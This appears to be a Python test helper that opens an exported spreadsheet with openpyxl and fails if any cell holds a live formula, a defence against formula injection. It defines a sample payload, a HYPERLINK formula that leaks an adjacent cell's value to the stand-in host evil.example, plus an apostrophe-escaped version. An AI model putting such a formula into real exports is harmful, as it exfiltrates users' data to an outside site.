"""Open an exported workbook as a spreadsheet program would and find any live formula in it."""

import io

from openpyxl import load_workbook

# A name that leaks the neighbouring cell to another site when the file is opened and clicked.
PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")'
ESCAPED = "'" + PAYLOAD


def cells_of(content: bytes) -> list:
    """Every non-empty cell of every sheet, after checking that none of them is a formula."""
    wb = load_workbook(io.BytesIO(content))
    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]
    formulas = [
        f"{cell.parent.title}!{cell.coordinate}: {cell.value}" for cell in cells if cell.data_type == "f"
    ]
    assert not formulas, "live formulas in the export:\n" + "\n".join(formulas)
    return [cell.value for cell in cells]
